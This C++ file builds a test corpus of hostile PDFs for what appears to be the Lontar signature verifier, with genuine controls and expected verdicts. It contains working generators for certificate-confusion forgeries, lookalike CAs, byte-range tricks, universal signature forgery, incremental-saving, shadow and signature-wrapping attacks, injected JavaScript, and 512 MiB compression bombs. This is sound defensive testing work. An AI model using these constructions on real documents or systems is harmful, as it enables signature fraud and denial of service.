// Writes the hostile-PDF corpus: documents built the way the published attacks on PDF
// signatures build them (universal signature forgery, incremental saving, signature
// wrapping, shadow hide / replace / hide-and-replace), certificate-confusion forgeries,
// byte-range tricks, compression bombs, huge object counts and every hiding place of
// active content — each next to genuine controls, all made here from a real data
// folder (its CA, its TSA, a holder's real certificate). manifest.tsv names each file,
// the verdicts Lontar may give it and why it is hostile.
//
//   hostile_corpus --data DIR --out DIR
#include <openssl/cms.h>
#include <openssl/ess.h>
#include <openssl/x509v3.h>
#include <zlib.h>

#include <cstdio>
#include <filesystem>
#include <fstream>
#include <functional>
#include <iostream>
#include <map>
#include <string>
#include <thread>
#include <vector>

#include "support/minimal_pdf.h"
#include "documents/signing.h"
#include "core/encoding.h"
#include "core/revocation.h"
#include "crypto/certificate.h"
#include "crypto/crypto_error.h"
#include "crypto/csr.h"
#include "crypto/der.h"
#include "crypto/ossl_ptr.h"
#include "crypto/pades_cms.h"
#include "crypto/timestamp_authority.h"
#include "support/pdf_fixture.h"

namespace fs = std::filesystem;
using namespace lontar;
using crypto::OsslPtr;

namespace {

struct Corpus {
  fs::path folder;
  std::ofstream manifest;
  void add(const std::string& name, const std::string& pdf, const std::string& verdicts, const std::string& why) {
    std::ofstream(folder / (name + ".pdf"), std::ios::binary) << pdf;
    manifest << name << '\t' << verdicts << '\t' << why << '\n';
  }
};

std::string with_xref(const std::vector<std::string>& objects, const std::string& trailer_extra = {}) {
  return lontar::testing::pdf_with_xref(objects, trailer_extra);
}

// One incremental update (classic table) that defines `objects` (number → body).
std::string update(const std::string& pdf, const std::map<int, std::string>& objects, int size,
                   const std::string& trailer_extra = {}) {
  const auto previous = pdf.substr(pdf.rfind("startxref") + 10);
  std::string out = pdf;
  std::string table = "xref\n";
  std::map<int, std::size_t> offsets;
  for (const auto& [n, body] : objects) {
    offsets[n] = out.size();
    out += std::to_string(n) + " 0 obj\n" + body + "\nendobj\n";
  }
  for (const auto& [n, offset] : offsets) {
    char line[21];
    std::snprintf(line, sizeof line, "%010zu 00000 n \n", offset);
    table += std::to_string(n) + " 1\n" + line;
  }
  const auto xref = out.size();
  return out + table + "trailer\n<< /Size " + std::to_string(size) + " /Root 1 0 R /Prev " +
         std::to_string(std::stoll(previous)) + trailer_extra + " >>\nstartxref\n" + std::to_string(xref) + "\n%%EOF\n";
}

std::string stream(const std::string& dict_extra, const std::string& data) {
  return "<< /Length " + std::to_string(data.size()) + dict_extra + " >>\nstream\n" + data + "\nendstream";
}

std::string deflate(const std::string& data) {
  uLongf size = compressBound(data.size());
  std::string out(size, '\0');
  compress2(reinterpret_cast<Bytef*>(out.data()), &size, reinterpret_cast<const Bytef*>(data.data()), data.size(), 9);
  out.resize(size);
  return out;
}

// `megabytes` MiB of zeros, deflated without ever holding them.
std::string deflated_zeros(std::size_t megabytes) {
  z_stream z{};
  deflateInit(&z, 9);
  const std::string chunk(1 << 20, '\0');
  std::string out;
  char buffer[1 << 16];
  for (std::size_t i = 0; i < megabytes; ++i) {
    z.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(chunk.data()));
    z.avail_in = static_cast<uInt>(chunk.size());
    const int flush = i + 1 == megabytes ? Z_FINISH : Z_NO_FLUSH;
    do {
      z.next_out = reinterpret_cast<Bytef*>(buffer);
      z.avail_out = sizeof buffer;
      deflate(&z, flush);
      out.append(buffer, sizeof buffer - z.avail_out);
    } while (z.avail_out == 0);
  }
  deflateEnd(&z);
  return out;
}

// The newest definition of object `number` in `pdf` (its body, without "n 0 obj").
std::string newest_body(const std::string& pdf, int number) {
  const auto header = "\n" + std::to_string(number) + " 0 obj\n";
  const auto at = pdf.rfind(header) + header.size();
  return pdf.substr(at, pdf.find("\nendobj", at) - at);
}

// The number of the newest object whose body contains `marker`.
int newest_object_with(const std::string& pdf, const std::string& marker) {
  const auto at = pdf.rfind(marker);
  const auto header_end = pdf.rfind(" 0 obj\n", at);
  const auto line = pdf.rfind('\n', header_end);
  return std::stoi(pdf.substr(line + 1, header_end - line - 1));
}

int size_of(const std::string& pdf) { return std::stoi(pdf.substr(pdf.rfind("/Size ") + 6)); }

// A PDF whose object 2 (the catalog, as the trailer says) lives in object stream 1
// with `data` (encoded with `filters`) as its content, and a cross-reference stream.
std::string in_object_stream(const std::string& filters, const std::string& data) {
  std::string pdf = "%PDF-1.7\n";
  const auto objstm_at = pdf.size();
  pdf += "1 0 obj\n" + stream(" /Type /ObjStm /N 1 /First 4" + filters, data) + "\nendobj\n";
  const auto xref_at = pdf.size();
  std::string rows;
  const auto row = [&](int type, std::uint32_t field2, std::uint16_t field3) {
    rows += static_cast<char>(type);
    for (int shift = 24; shift >= 0; shift -= 8) rows += static_cast<char>((field2 >> shift) & 0xff);
    rows += static_cast<char>(field3 >> 8);
    rows += static_cast<char>(field3 & 0xff);
  };
  row(0, 0, 65535);
  row(1, static_cast<std::uint32_t>(objstm_at), 0);
  row(2, 1, 0);
  row(1, static_cast<std::uint32_t>(xref_at), 0);
  return pdf + "3 0 obj\n" + stream(" /Type /XRef /Size 4 /W [1 4 2] /Root 2 0 R", rows) + "\nendobj\nstartxref\n" +
         std::to_string(xref_at) + "\n%%EOF\n";
}

const std::string kPageContent = "BT /F1 18 Tf 72 760 Td (Surat Keputusan Rektor) Tj ET";

// What an attacker who holds a real certificate's key (or who forges) signs with.
struct SigningKey {
  const crypto::PrivateKey* key;
  const crypto::Certificate* certificate;
};

class Generator {
 public:
  Generator(Instance& instance, Corpus& corpus) : instance_(instance), corpus_(corpus) {
    add_account("5108010101900077", "Dr. I Made Rektor");
    const auto csr = crypto::make_csr_pem(holder_key_.get(), "x", std::nullopt);
    record_ = instance_.issuance().issue_for_operator({"5108010101900077", "individual-1y", csr, "corpus"});
    holder_ = std::make_unique<crypto::Certificate>(crypto::Certificate::from_pem(record_.pem));
    issuing_pem_ = read_file(instance_.dir().certificate("issuing"));
  }

  void add_account(const std::string& nik, const std::string& name) {
    instance_.store().write([&](StoreTransaction& tx) {
      Account a;
      a.role = Role::applicant;
      a.nik = nik;
      a.name = name;
      a.email = nik + "@undiksha.ac.id";
      a.organisation = "Universitas Pendidikan Ganesha";
      a.unit = "Rektorat";
      a.created_at = 1;
      tx.accounts().insert(a);
    });
  }

  SigningKey holder() const { return {&holder_key_, holder_.get()}; }
  const crypto::Certificate& holder_certificate() const { return *holder_; }
  const crypto::PrivateKey& holder_key() const { return holder_key_; }
  const std::string& issuing_pem() const { return issuing_pem_; }

  std::string url(const std::string& code) const { return document_url(instance_, code); }

  // A genuine signature made the way Lontar makes them (B-LT), registered.
  std::string genuine(const std::string& pdf) {
    SignDocumentCommand command;
    command.pdf = pdf;
    command.certificate_pem = record_.pem;
    command.actor = "corpus";
    return sign_document(instance_, holder_key_, command).pdf;
  }

  std::string timestamp(std::string_view request) const {
    const crypto::TimestampAuthority tsa(instance_.tsa_signer(), read_file(instance_.dir().chain()),
                                         instance_.config().timestamp_policy, instance_.random(), instance_.clock());
    return tsa.respond(request);
  }

  // A PAdES CMS by Lontar's own code: the honest shape.
  std::string honest_cms(const SigningKey& signer, std::string_view bytes, const std::string& chain_pem) const {
    return crypto::make_pades_cms(*signer.key, *signer.certificate, chain_pem, bytes,
                                  [&](std::string_view request) { return timestamp(request); });
  }

  // A one-revision PDF with `objects` 1..n (1 the catalog, which gets the form) and a
  // signature whose byte range `ranges` chooses from the hole's place; the CMS comes
  // from `make_cms` over exactly the bytes the range names.
  using Ranges = std::function<std::string(std::size_t hole_start, std::size_t hole_end, std::size_t size)>;
  std::string signed_pdf(std::vector<std::string> objects, const std::string& code,
                         const std::function<std::string(std::string_view)>& make_cms, const Ranges& ranges = {},
                         const std::string& form_extra = {}) {
    const int sig = static_cast<int>(objects.size()) + 1, widget = sig + 1;
    objects.push_back(placeholder_signature(code));
    objects.push_back("<< /Type /Annot /Subtype /Widget /FT /Sig /T (Signature1) /V " + std::to_string(sig) +
                      " 0 R /Rect [0 0 0 0] /F 132 /P 3 0 R >>");
    // The catalog gains the form, the first page its widget.
    objects[0].insert(objects[0].rfind(">>"), " /AcroForm << /Fields [" + std::to_string(widget) + " 0 R] /SigFlags 3" + form_extra + " >> ");
    if (const auto annots = objects[2].find("/Annots ["); annots != std::string::npos)
      objects[2].insert(objects[2].find(']', annots), " " + std::to_string(widget) + " 0 R");
    else
      objects[2].insert(objects[2].rfind(">>"), " /Annots [" + std::to_string(widget) + " 0 R] ");
    auto pdf = with_xref(objects);
    fill_signature(pdf, make_cms, ranges);
    return pdf;
  }

  // A signature dictionary with room for its byte range and value, naming `code`'s URL.
  std::string placeholder_signature(const std::string& code) const {
    return "<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange " + std::string(64, ' ') +
           " /Contents <" + std::string(32768, '0') + "> /ContactInfo (" + url(code) + ") /M (D:20261130000000Z) >>";
  }

  // Fills the newest placeholder signature of `pdf`: its byte range (`ranges` chooses
  // it from the hole's place; by default the whole file but the hole), then the CMS
  // `make_cms` makes over exactly the bytes that range names.
  static void fill_signature(std::string& pdf, const std::function<std::string(std::string_view)>& make_cms,
                             const Ranges& ranges = {}) {
    const auto sig_at = pdf.rfind("/Type /Sig");
    const auto hole_start = pdf.find("/Contents <", sig_at) + 10;
    const auto hole_end = pdf.find('>', hole_start) + 1;
    const auto range_at = pdf.find("/ByteRange ", sig_at) + 11;
    std::string range = ranges ? ranges(hole_start, hole_end, pdf.size())
                               : "[0 " + std::to_string(hole_start) + " " + std::to_string(hole_end) + " " +
                                     std::to_string(pdf.size() - hole_end) + "]";
    range.resize(64, ' ');
    pdf.replace(range_at, 64, range);
    const auto hex = to_hex(as_bytes(make_cms(bytes_of_range(pdf, range))));
    pdf.replace(hole_start + 1, hex.size(), hex);
  }

  // The plain three-page letter's objects, ready for signed_pdf: catalog, pages, page,
  // content, font (plus whatever the caller appends).
  static std::vector<std::string> letter_objects(const std::string& page_extra = {},
                                                 const std::string& catalog_extra = {}) {
    return {"<< /Type /Catalog /Pages 2 0 R" + catalog_extra + " >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> "
            ">>" + page_extra + " >>",
            stream("", kPageContent),
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"};
  }

  std::string code() { return new_document_code(instance_.random()); }

  // Another holder's certificate, revoked a moment ago (the TSA's next timestamp is
  // then strictly after the revocation).
  SigningKey revoked_holder() {
    add_account("5108010101900078", "Ni Made Dicabut");
    const auto csr = crypto::make_csr_pem(revoked_key_.get(), "x", std::nullopt);
    const auto record = instance_.issuance().issue_for_operator({"5108010101900078", "individual-1y", csr, "corpus"});
    RevokeCommand revoke;
    revoke.serial_hex = record.serial_hex;
    revoke.reason = RevocationReason::key_compromise;
    revoke.actor = "corpus";
    revoke.requester_is_admin = true;
    RevocationService(instance_.store(), instance_.clock()).revoke(revoke);
    std::this_thread::sleep_for(std::chrono::milliseconds(1100));
    revoked_ = std::make_unique<crypto::Certificate>(crypto::Certificate::from_pem(record.pem));
    return {&revoked_key_, revoked_.get()};
  }

 private:
  static std::string bytes_of_range(const std::string& pdf, const std::string& range) {
    std::vector<long long> numbers;
    std::size_t at = range.find('[') + 1;
    while (at < range.size()) {
      std::size_t used = 0;
      try {
        numbers.push_back(std::stoll(range.substr(at), &used));
      } catch (...) {
        break;
      }
      at += used;
    }
    std::string out;
    for (std::size_t i = 0; i + 1 < numbers.size(); i += 2)
      if (numbers[i] >= 0 && numbers[i + 1] >= 0 && static_cast<std::size_t>(numbers[i] + numbers[i + 1]) <= pdf.size())
        out += pdf.substr(static_cast<std::size_t>(numbers[i]), static_cast<std::size_t>(numbers[i + 1]));
    return out;
  }

  Instance& instance_;
  Corpus& corpus_;
  crypto::PrivateKey holder_key_ = crypto::PrivateKey::generate("ec-p256");
  crypto::PrivateKey revoked_key_ = crypto::PrivateKey::generate("ec-p256");
  std::unique_ptr<crypto::Certificate> revoked_;
  CertificateRecord record_;
  std::unique_ptr<crypto::Certificate> holder_;
  std::string issuing_pem_;
};

// A certificate made by the attacker: `issuer` and `serial` copied from a real one
// (and its subject, and its key identifier when `copy_key_id`), signed by the
// attacker's own key.
crypto::Certificate forged_copy(const crypto::Certificate& real, const crypto::PrivateKey& key, bool copy_key_id) {
  OsslPtr<X509> x(X509_new());
  X509_set_version(x.get(), 2);
  X509_set_serialNumber(x.get(), const_cast<ASN1_INTEGER*>(X509_get0_serialNumber(real.get())));
  X509_set_issuer_name(x.get(), X509_get_issuer_name(real.get()));
  X509_set_subject_name(x.get(), X509_get_subject_name(real.get()));
  X509_set1_notBefore(x.get(), X509_get0_notBefore(real.get()));
  X509_set1_notAfter(x.get(), X509_get0_notAfter(real.get()));
  X509_set_pubkey(x.get(), key.get());
  for (int i = 0; i < X509_get_ext_count(real.get()); ++i) {
    X509_EXTENSION* ext = X509_get_ext(real.get(), i);
    const int nid = OBJ_obj2nid(X509_EXTENSION_get_object(ext));
    if (nid == NID_subject_key_identifier && !copy_key_id) continue;
    if (nid == NID_authority_key_identifier || nid == NID_ext_key_usage || nid == NID_key_usage ||
        nid == NID_subject_key_identifier || nid == NID_basic_constraints)
      X509_add_ext(x.get(), ext, -1);
  }
  X509_sign(x.get(), key.get(), EVP_sha256());
  return crypto::Certificate(std::move(x));
}

// A self-made CA that copies the real root's and issuing CA's names, and a
// certificate under it that copies the holder's subject.
struct LookalikeCa {
  crypto::PrivateKey root_key = crypto::PrivateKey::generate("ec-p256");
  crypto::PrivateKey issuing_key = crypto::PrivateKey::generate("ec-p256");
  crypto::PrivateKey holder_key = crypto::PrivateKey::generate("ec-p256");
  std::unique_ptr<crypto::Certificate> issuing, holder;

  static OsslPtr<X509> make(const X509_NAME* subject, const X509_NAME* issuer, EVP_PKEY* key, EVP_PKEY* signer,
                            bool ca, long serial) {
    OsslPtr<X509> x(X509_new());
    X509_set_version(x.get(), 2);
    ASN1_INTEGER_set(X509_get_serialNumber(x.get()), serial);
    X509_set_subject_name(x.get(), const_cast<X509_NAME*>(subject));
    X509_set_issuer_name(x.get(), const_cast<X509_NAME*>(issuer));
    X509_gmtime_adj(X509_getm_notBefore(x.get()), -3600);
    X509_gmtime_adj(X509_getm_notAfter(x.get()), 86400L * 365);
    X509_set_pubkey(x.get(), key);
    X509V3_CTX ctx;
    X509V3_set_ctx_nodb(&ctx);
    X509V3_set_ctx(&ctx, x.get(), x.get(), nullptr, nullptr, 0);
    const char* constraints = ca ? "critical,CA:TRUE" : "critical,CA:FALSE";
    OsslPtr<X509_EXTENSION> bc(X509V3_EXT_conf_nid(nullptr, &ctx, NID_basic_constraints, constraints));
    X509_add_ext(x.get(), bc.get(), -1);
    if (!ca) {
      OsslPtr<X509_EXTENSION> eku(X509V3_EXT_conf_nid(nullptr, &ctx, NID_ext_key_usage, "1.3.6.1.5.5.7.3.36,emailProtection"));
      X509_add_ext(x.get(), eku.get(), -1);
    }
    X509_sign(x.get(), signer, EVP_sha256());
    return x;
  }

  LookalikeCa(const crypto::Certificate& real_issuing, const crypto::Certificate& real_holder) {
    issuing = std::make_unique<crypto::Certificate>(make(X509_get_subject_name(real_issuing.get()),
                                                         X509_get_issuer_name(real_issuing.get()), issuing_key.get(),
                                                         root_key.get(), true, 7));
    holder = std::make_unique<crypto::Certificate>(make(X509_get_subject_name(real_holder.get()),
                                                        X509_get_issuer_name(real_holder.get()), holder_key.get(),
                                                        issuing_key.get(), false, 99));
  }
};

// CMS built by hand for the shapes Lontar's signer never makes: `sid_key_id` names the
// signer by key identifier, `ess` is the certificate the signing-certificate-v2
// attribute names (none when null), `extra_certificates` go into the certificate set,
// `second_signer` adds a second SignerInfo. Only `extra_certificates` are included.
std::string crafted_cms(const crypto::PrivateKey& key, const crypto::Certificate& signer, std::string_view bytes,
                        const crypto::Certificate* ess, const std::vector<const crypto::Certificate*>& extra_certificates,
                        bool sid_key_id, const SigningKey* second_signer, const EVP_MD* digest = EVP_sha256()) {
  unsigned flags = CMS_DETACHED | CMS_BINARY | CMS_PARTIAL | CMS_NOSMIMECAP;
  OsslPtr<CMS_ContentInfo> cms(CMS_sign(nullptr, nullptr, nullptr, nullptr, flags));
  for (const auto* c : extra_certificates) CMS_add1_cert(cms.get(), c->get());
  const auto add_signer = [&](const crypto::PrivateKey& k, const crypto::Certificate& c, const crypto::Certificate* names) {
    CMS_SignerInfo* si = CMS_add1_signer(cms.get(), c.get(), k.get(), digest,
                                     flags | CMS_NOCERTS | (sid_key_id ? CMS_USE_KEYID : 0));
    if (names) {
      OsslPtr<ESS_SIGNING_CERT_V2> v2(OSSL_ESS_signing_cert_v2_new_init(EVP_sha256(), names->get(), nullptr, 0));
      unsigned char* der = nullptr;
      const int length = i2d_ESS_SIGNING_CERT_V2(v2.get(), &der);
      CMS_signed_add1_attr_by_NID(si, NID_id_smime_aa_signingCertificateV2, V_ASN1_SEQUENCE, der, length);
      OPENSSL_free(der);
    }
    return si;
  };
  add_signer(key, signer, ess);
  if (second_signer) add_signer(*second_signer->key, *second_signer->certificate, second_signer->certificate);
  auto data = crypto::memory_bio(bytes);
  CMS_final(cms.get(), data.get(), nullptr, flags);
  unsigned char* out = nullptr;
  const int length = i2d_CMS_ContentInfo(cms.get(), &out);
  std::string der(reinterpret_cast<char*>(out), static_cast<std::size_t>(length));
  OPENSSL_free(out);
  return der;
}

void write_corpus(Instance& instance, Corpus& corpus) {
  Generator g(instance, corpus);
  const auto letter = lontar::testing::letter_pdf("Surat Keputusan Rektor", 3);
  const auto& holder = g.holder_certificate();
  const auto issuing = crypto::Certificate::from_pem(g.issuing_pem());
  const auto honest = [&](const std::string&) {
    return [&](std::string_view bytes) { return g.honest_cms(g.holder(), bytes, g.issuing_pem()); };
  };

  // Controls: what must stay valid.
  const auto g1 = g.genuine(letter);
  corpus.add("control-genuine", g1, "identical", "a genuine B-LT signature, registered");
  const auto g2 = g.genuine(g1);
  corpus.add("control-two-signers", g2, "identical", "two genuine B-LT signatures, registered");
  corpus.add("control-hand-built", g.signed_pdf(Generator::letter_objects(), g.code(), honest("")), "valid",
             "the generator's own honest signature (not registered)");

  // Certificate confusion: the signer identifier matches a forged certificate too.
  const auto forger = crypto::PrivateKey::generate("ec-p256");
  const auto forged = forged_copy(holder, forger, false);
  const auto forged_ski = forged_copy(holder, forger, true);
  const auto sign_forged = [&](const crypto::Certificate& as, bool key_id, const crypto::Certificate* ess) {
    return [&, key_id, ess](std::string_view bytes) {
      // The forged certificate first, the genuine one after it, and a genuine timestamp.
      auto cms = crafted_cms(forger, as, bytes, ess, {&as, &holder, &issuing}, key_id, nullptr);
      return cms;
    };
  };
  // The forgery the review found, with Lontar's own CMS shape (ESS names the forged one).
  const auto forgery_code = g.code();
  corpus.add("forgery-issuer-serial", g.signed_pdf(Generator::letter_objects(), forgery_code, [&](std::string_view bytes) {
    const auto chain = holder.pem() + g.issuing_pem();  // the forged one joins as the signer's
    return crypto::make_pades_cms(forger, forged, chain, bytes, [&](std::string_view r) { return g.timestamp(r); });
  }), "refused", "a forged certificate copying the holder's issuer and serial, beside the genuine one");
  std::ofstream(corpus.folder / "forgery-code.txt") << forgery_code;
  corpus.add("forgery-ski", g.signed_pdf(Generator::letter_objects(), g.code(), sign_forged(forged_ski, true, &forged_ski)),
             "refused", "the same with the signer named by key identifier");
  corpus.add("forgery-ess-other", g.signed_pdf(Generator::letter_objects(), g.code(), [&](std::string_view bytes) {
    return crafted_cms(g.holder_key(), holder, bytes, &issuing, {&holder, &issuing}, false, nullptr);
  }), "refused", "signing-certificate-v2 names another certificate than the signer");
  corpus.add("forgery-no-ess", g.signed_pdf(Generator::letter_objects(), g.code(), [&](std::string_view bytes) {
    return crafted_cms(g.holder_key(), holder, bytes, nullptr, {&holder, &issuing}, false, nullptr);
  }), "refused", "no signing-certificate attribute");
  const auto other_key = crypto::PrivateKey::generate("ec-p256");
  const auto other = forged_copy(holder, other_key, false);
  const SigningKey second{&other_key, &other};
  corpus.add("forgery-two-signer-infos", g.signed_pdf(Generator::letter_objects(), g.code(), [&](std::string_view bytes) {
    return crafted_cms(g.holder_key(), holder, bytes, &holder, {&holder, &other, &issuing}, false, &second);
  }), "refused", "two signer infos");
  corpus.add("forgery-signer-missing", g.signed_pdf(Generator::letter_objects(), g.code(), [&](std::string_view bytes) {
    return crafted_cms(g.holder_key(), holder, bytes, &holder, {&issuing}, false, nullptr);
  }), "refused", "the signer's certificate is not in the signature");
  corpus.add("weak-digest-sha1", g.signed_pdf(Generator::letter_objects(), g.code(), [&](std::string_view bytes) {
    return crafted_cms(g.holder_key(), holder, bytes, &holder, {&holder, &issuing}, false, nullptr, EVP_sha1());
  }), "refused", "a genuine signer's signature over a SHA-1 digest (collisions are practical)");
  {
    // A stolen key keeps signing after its certificate was revoked.
    const auto revoked = g.revoked_holder();
    corpus.add("signed-after-revocation", g.signed_pdf(Generator::letter_objects(), g.code(), [&](std::string_view bytes) {
      return g.honest_cms(revoked, bytes, g.issuing_pem());
    }), "untrusted", "signed (and timestamped) after the certificate was revoked");
  }
  LookalikeCa lookalike(issuing, holder);
  corpus.add("forgery-lookalike-ca", g.signed_pdf(Generator::letter_objects(), g.code(), [&](std::string_view bytes) {
    return crypto::make_pades_cms(lookalike.holder_key, *lookalike.holder, lookalike.issuing->pem(), bytes,
                                  [&](std::string_view r) { return g.timestamp(r); });
  }), "untrusted", "a certificate of another CA with the same names");
  corpus.add("contents-trailing-garbage", g.signed_pdf(Generator::letter_objects(), g.code(), [&](std::string_view bytes) {
    return g.honest_cms(g.holder(), bytes, g.issuing_pem()) + "\x01garbage";
  }), "refused", "/Contents holds more than one DER object");

  // Byte-range tricks, each over bytes the CMS really signs.
  const auto with_range = [&](const std::string& name, const Generator::Ranges& ranges, const std::string& why) {
    corpus.add(name, g.signed_pdf(Generator::letter_objects(), g.code(), honest(""), ranges), "refused", why);
  };
  using std::to_string;
  with_range("range-three-parts", [](auto s, auto e, auto n) {
    return "[0 " + to_string(s) + " " + to_string(e) + " 10 " + to_string(e + 10) + " " + to_string(n - e - 10) + "]";
  }, "three byte-range parts");
  with_range("range-not-at-zero", [](auto s, auto e, auto n) {
    return "[9 " + to_string(s - 9) + " " + to_string(e) + " " + to_string(n - e) + "]";
  }, "the byte range does not start at 0");
  with_range("range-overlapping", [](auto, auto e, auto n) {
    return "[0 " + to_string(e + 20) + " " + to_string(e) + " " + to_string(n - e) + "]";
  }, "overlapping parts");
  with_range("range-hole-too-large", [](auto s, auto e, auto n) {
    return "[0 " + to_string(s - 12) + " " + to_string(e + 4) + " " + to_string(n - e - 4) + "]";
  }, "the hole holds more than the hex value");
  with_range("range-short-of-end", [](auto s, auto e, auto n) {
    return "[0 " + to_string(s) + " " + to_string(e) + " " + to_string(n - e - 30) + "]";
  }, "the byte range stops before the end of its revision");

  // Universal signature forgery: values a careless viewer reads as "no problem".
  const auto usf = [&](const std::string& name, const std::string& sig_dict) {
    auto objects = Generator::letter_objects();
    objects.push_back(sig_dict);
    objects.push_back("<< /Type /Annot /Subtype /Widget /FT /Sig /T (Signature1) /V 6 0 R /Rect [0 0 0 0] /P 3 0 R >>");
    objects[0].insert(objects[0].rfind(">>"), " /AcroForm << /Fields [7 0 R] /SigFlags 3 >> ");
    corpus.add(name, with_xref(objects), "refused", "universal signature forgery: " + sig_dict);
  };
  usf("usf-no-contents", "<< /Type /Sig /SubFilter /ETSI.CAdES.detached /ByteRange [0 10 20 30] >>");
  usf("usf-empty-contents", "<< /Type /Sig /SubFilter /ETSI.CAdES.detached /ByteRange [0 10 20 30] /Contents <> >>");
  usf("usf-null-range", "<< /Type /Sig /SubFilter /ETSI.CAdES.detached /ByteRange null /Contents <3000> >>");
  usf("usf-no-range", "<< /Type /Sig /SubFilter /ETSI.CAdES.detached /Contents <3000> >>");

  // Incremental saving attacks on the genuine file.
  const int content = newest_object_with(g1, "Surat Keputusan Rektor");
  corpus.add("isa-changed-page", update(g1, {{content, stream("", "BT /F1 18 Tf 72 760 Td (Surat PALSU) Tj ET")}}, size_of(g1)),
             "changed", "page content replaced after signing");
  const auto g1_size = size_of(g1);
  {
    // A new annotation hooked onto the page that carries the signature's widget.
    const int page = newest_object_with(g1, "/Annots [");
    auto body = newest_body(g1, page);
    body.insert(body.find(']', body.find("/Annots [")), " " + std::to_string(g1_size) + " 0 R");
    corpus.add("isa-new-annotation",
               update(g1, {{page, body},
                           {g1_size, "<< /Type /Annot /Subtype /FreeText /Rect [72 700 400 740] /Contents (Dibatalkan) "
                                     "/DA (/Helv 18 Tf) >>"}},
                      g1_size + 1),
               "changed", "a new annotation on the signed page");
  }
  corpus.add("isa-info-swapped",
             update(g1, {{g1_size, "<< /Title (Surat Keputusan PALSU) /Author (Rektor) >>"}}, g1_size + 1,
                    " /Info " + std::to_string(g1_size) + " 0 R"),
             "changed", "the document information (title) swapped after signing");
  corpus.add("isa-appended-garbage", g1 + "1 0 obj\n<< /Type /Catalog >>\nendobj\n", "changed",
             "objects appended after %%EOF without a cross-reference section");
  {
    auto catalog = newest_body(g1, 1);
    catalog.insert(catalog.rfind(">>"), " /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> ");
    corpus.add("isa-openaction-js", update(g1, {{1, catalog}}, g1_size), "refused,changed",
               "JavaScript added to the catalog after signing");
  }

  // Shadow attacks: content planted before signing, switched on after.
  {
    auto objects = Generator::letter_objects(" /XObjectHidden 6 0 R");
    objects.push_back(stream(" /Type /XObject /Subtype /Form /BBox [0 0 595 842]",
                             "BT /F1 40 Tf 72 400 Td (LUNAS) Tj ET"));
    const auto code = g.code();
    const auto base = g.signed_pdf(objects, code, honest(""));
    const auto xobject_page = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents [4 0 R 10 0 R] "
                              "/Resources << /Font << /F1 5 0 R >> /XObject << /X1 6 0 R >> >> /Annots [8 0 R] >>";
    corpus.add("shadow-hide", update(base, {{3, xobject_page}, {10, stream("", "/X1 Do")}}, 11), "changed",
               "shadow hide: a planted form XObject shown after signing");
    corpus.add("shadow-replace",
               update(base, {{5, "<< /Type /Font /Subtype /Type1 /BaseFont /Courier >>"}}, 9), "changed",
               "shadow replace: the font object swapped");
    corpus.add("shadow-hide-and-replace",
               update(base, {{3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 6 0 R /Resources "
                                 "<< /Font << /F1 5 0 R >> >> /Annots [8 0 R] >>"}},
                      9),
               "changed", "shadow hide-and-replace: the page shows another planted stream");
  }

  // Signature wrapping: the signature dictionary redefined later, pointing at the old
  // hole, with the page changed in the same update.
  {
    const int sig_number = newest_object_with(g1, "<< /Type /Sig");
    corpus.add("swa-moved-signature",
               update(g1, {{sig_number, newest_body(g1, sig_number)},
                           {content, stream("", "BT /F1 18 Tf 72 760 Td (Surat PALSU) Tj ET")}},
                      g1_size),
               "changed", "signature wrapping: the signature dictionary moved into a later update");
  }

  // Between two signatures only the next signature field may be added.
  {
    const auto changed = update(g1, {{content, stream("", "BT /F1 18 Tf 72 760 Td (Surat PALSU) Tj ET")}}, g1_size);
    // A second signer signs over the change (Lontar itself would refuse to).
    // The second signature's own update: a sig dict, a widget on page 3, the form.
    const int sig = g1_size, widget = g1_size + 1;
    const auto code = g.code();
    auto new_catalog = newest_body(g1, 1);
    const auto fields = new_catalog.find("/Fields [");
    new_catalog.insert(new_catalog.find(']', fields), " " + std::to_string(widget) + " 0 R");
    auto pdf = update(changed, {{1, new_catalog}, {sig, g.placeholder_signature(code)},
                                {widget, "<< /Type /Annot /Subtype /Widget /FT /Sig /T (Signature2) /V " +
                                             std::to_string(sig) + " 0 R /Rect [0 0 0 0] /P 3 0 R >>"}},
                      widget + 1);
    Generator::fill_signature(pdf, [&](std::string_view bytes) { return g.honest_cms(g.holder(), bytes, g.issuing_pem()); });
    corpus.add("between-signatures-changed-page", pdf, "changed",
               "a later signer signed over a page changed after the first signature");
  }

  // A new form value after signing.
  {
    auto objects = Generator::letter_objects();
    objects.push_back("<< /FT /Tx /T (Nominal) /V (Rp 1.000) /Rect [72 600 300 620] /Type /Annot /Subtype /Widget /P 3 0 R >>");
    const auto base = g.signed_pdf(objects, g.code(), honest(""));
    corpus.add("isa-form-value", update(base, {{6, "<< /FT /Tx /T (Nominal) /V (Rp 900.000.000) /Rect [72 600 300 620] "
                                                  "/Type /Annot /Subtype /Widget /P 3 0 R >>"}},
                                        9),
               "changed", "a form field's value changed after signing");
  }

  // Compression bombs and oversized structure.
  const auto bomb = deflate(deflated_zeros(512));  // 512 MiB of zeros, deflated twice
  const int store = newest_object_with(g1, "/OCSPs [");
  corpus.add("bomb-dss", update(g1, {{store, "<< /Certs [" + std::to_string(g1_size) + " 0 R] >>"},
                                       {g1_size, stream(" /Filter [/FlateDecode /FlateDecode]", bomb)}},
                                 g1_size + 1),
             "limit", "a doubly compressed /DSS stream of 512 MiB");
  corpus.add("bomb-object-stream", in_object_stream(" /Filter [/FlateDecode /FlateDecode]", bomb), "limit",
             "an object stream that inflates to 512 MiB");
  {
    // Memory, not bytes: a few megabytes of "0 " are millions of objects once parsed.
    std::string zeros = "[";
    for (int i = 0; i < 2'000'000; ++i) zeros += "0 ";
    zeros += "]";
    auto objects = Generator::letter_objects("", " /Big 6 0 R");
    objects.push_back(zeros);
    corpus.add("tokens-array", with_xref(objects), "limit", "an array of 2,000,000 numbers");
    corpus.add("tokens-in-object-stream", in_object_stream(" /Filter /FlateDecode", deflate("2 0 " + zeros)), "limit",
               "the same array, deflated inside an object stream");
  }
  {
    std::string chain;
    for (int i = 0; i < 6; ++i) chain += " /FlateDecode";
    std::string data = "deep";
